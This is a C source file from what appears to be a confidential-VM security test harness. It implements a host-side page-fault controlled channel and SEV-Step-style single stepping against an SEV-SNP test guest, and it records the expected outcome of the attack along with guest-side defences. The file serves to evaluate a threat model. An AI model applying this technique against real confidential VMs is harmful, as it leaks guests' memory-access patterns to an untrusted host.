/*
 * host/attacks/scn_pf_channel.c - pf-channel (THREAT-MODEL.md N3; attacks.md: the page-fault
 * controlled channel, Xu et al. 2015, and SEV-Step, Wilke et al. 2024): the host owns the
 * nested page table (H2) and the preemption tick (H5).
 *
 * A side channel: THREAT-MODEL.md puts it out of scope (N-class, N3), so its expected outcome
 * is SUCCEEDED on every profile and the descriptor's defence names what would stop it. The
 * model has no ALLOWED_* outcome for conceded leaks (ALLOWED_DOS is availability only).
 *
 * The victim is the kv app (atk_kv.c): it keeps the last record it stored in its working page
 * (ATK_KV_PAGE_GPA, private in an SNP guest), so the host knows which page holds a value the
 * guest handles and when the guest writes it.
 */
#include "host/attacks/atk_int.h"

#include "snpkit/util.h"
#include "snpkit/vmsa.h"

#include <string.h>

/* a value the VMM's status never holds: left untouched by an exit it had nothing to serve */

/* atk_vm_exchange() counting the exits (*exits) and the preemption-tick exits among them. */
static snp_err
exchange_ticks(struct atk_vm *vm, const uint8_t *req, size_t len, uint64_t *exits, uint64_t *ticks)
{
    unsigned calls = vm->chan_calls;
    uint64_t before = vm->st.exits;
    bool tick;

    SNP_ENSURE(len <= sizeof(vm->next), SNP_E_RANGE);
    memcpy(vm->next, req, len);
    vm->next_len = len;
    vm->last_len = 0;
    *ticks = 0;
    while (vm->chan_calls == calls && vm->st.stop == SNP_VMM_RUNNING) {
        SNP_TRY(atk_step_code(vm, SNP_EXIT_INTR, &tick)); /* the host's preemption tick */
        *ticks += tick;
    }
    *exits = vm->st.exits - before;
    return SNP_OK;
}

/*
 * Page-fault controlled channel and single stepping: unmap the kv page in the NPT while a
 * KV_PUT is pending, see the guest fault on it (the host learns the access and its moment),
 * map it back and resume; then serve the next request with a preemption tick of one guest
 * operation (SEV-Step) and count the exits, telling the preemption-tick exits (the single
 * steps, one guest operation each) from those the guest asked for. The guest is not told
 * either way.
 */
static snp_err
atk_pf_channel(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct snp_vmm_launch l;
    struct atk_vm vm;
    uint8_t v1[ATK_KV_SECRET_BYTES], m1[128], m2[128], sd[8];
    uint64_t e = 0, gfn = ATK_KV_PAGE_GPA >> SNP_PAGE_SHIFT, npf_at = 0, before, steps = 0,
             ticks = 0, plain_exits;
    size_t n1;
    unsigned calls;
    bool faulted;
    snp_err err;

    atk_secret_fill(v1, sizeof(v1), 0x5E);
    n1 = atk_msg_kv_put(m1, sizeof(m1), v1, sizeof(v1));
    memcpy(m2, m1, n1);
    atk_kv_launch(c, &l);
    err = atk_vm_start(c, &vm, &l, m1, n1);
    if (err != SNP_OK) {
        goto out;
    }
    err = SNP_E_STATE;
    if (snp_host_npt_get(c->m, vm.v->vm, gfn, &e) != SNP_OK ||
        snp_host_npt_set(c->m, vm.v->vm, gfn, e & ~SNP_NPT_PRESENT) != SNP_OK) {
        goto out;
    }
    atk_trace(c, SNP_ATK_ACT_HV, "NPT: kv page GPA 0x%llx not present; resume the guest",
              (unsigned long long)ATK_KV_PAGE_GPA);
    calls = vm.chan_calls;
    before = vm.st.exits;
    err = atk_vm_exchange(&vm, m2, n1);
    if (err != SNP_OK) {
        goto out;
    }
    faulted = vm.st.stop == SNP_VMM_STOP_ERROR && vm.st.last_exit == SNP_EXIT_NPF;
    npf_at = vm.st.exits - before;
    atk_trace(c, SNP_ATK_ACT_HW, "%s after %llu exit(s)",
              faulted ? "#NPF on the kv page" : "no #NPF", (unsigned long long)npf_at);
    err = SNP_E_STATE;
    if (snp_host_npt_set(c->m, vm.v->vm, gfn, e) != SNP_OK) {
        goto out;
    }
    /* Map it back and resume: the faulting access is retried. */
    while (vm.chan_calls == calls &&
           (vm.st.stop == SNP_VMM_RUNNING ||
            (vm.st.stop == SNP_VMM_STOP_ERROR && vm.st.last_exit == SNP_EXIT_NPF))) {
        err = atk_vm_step(&vm);
        if (err != SNP_OK) {
            goto out;
        }
    }
    if (!atk_kv_put_ok(&vm)) {
        err = SNP_E_STATE;
        goto out;
    }
    plain_exits = vm.st.exits - before;
    /* Single stepping: the next request with a tick of one guest operation. */
    err = snp_host_vcpu_set_tick(c->m, vm.v->vcpu_ids[0], 1);
    if (err != SNP_OK) {
        goto out;
    }
    err = exchange_ticks(&vm, sd, atk_msg_shutdown(sd), &steps, &ticks);
    if (err != SNP_OK) {
        goto out;
    }
    err = snp_host_vcpu_set_tick(c->m, vm.v->vcpu_ids[0], 0);
    if (err != SNP_OK) {
        goto out;
    }
    atk_trace(c, SNP_ATK_ACT_HW,
              "tick 1: the same request took %llu exits, %llu of them the preemption tick (one "
              "guest operation each); untimed it took %llu",
              (unsigned long long)steps, (unsigned long long)ticks,
              (unsigned long long)plain_exits);
    if (faulted && atk_kv_put_ok(&vm) && ticks > 0) {
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "#NPF on the kv page %llu exit(s) into the request revealed the access; "
                     "remapped, the guest answered without noticing; single-stepped: %llu "
                     "preemption-tick exits (one guest operation each) among %llu exits for a "
                     "request of %llu untimed",
                     (unsigned long long)npf_at, (unsigned long long)ticks,
                     (unsigned long long)steps, (unsigned long long)plain_exits);
    } else {
        char b[96];
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "no access observed (fault %d) or no step (%llu tick exits); guest %s",
                     (int)faulted, (unsigned long long)ticks, atk_stop_text(&vm, b, sizeof(b)));
    }
    err = SNP_OK;
out:
    atk_vm_free(&vm);
    return err;
}

/* Side channels are outside the SNP guarantees (THREAT-MODEL.md N3): conceded, so the
 * expected outcome is SUCCEEDED everywhere; the defence names what would stop them. */
const struct snp_atk_scenario atk_scn_pf_channel = {
    .id = "pf-channel",
    .title = "page-fault channel and single stepping",
    .ref = "N3, SEV-Step",
    .cap = "H2, H5",
    .condition = "NPT and the preemption tick are the host's",
    .defence =
        "conceded: none in SNP (guest-side: oblivious access, #VC/timer-aware step detection)",
    .profiles = ATK_P_ALL,
    .expect = {SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED, SNP_ATK_SUCCEEDED},
    .run = atk_pf_channel,
};
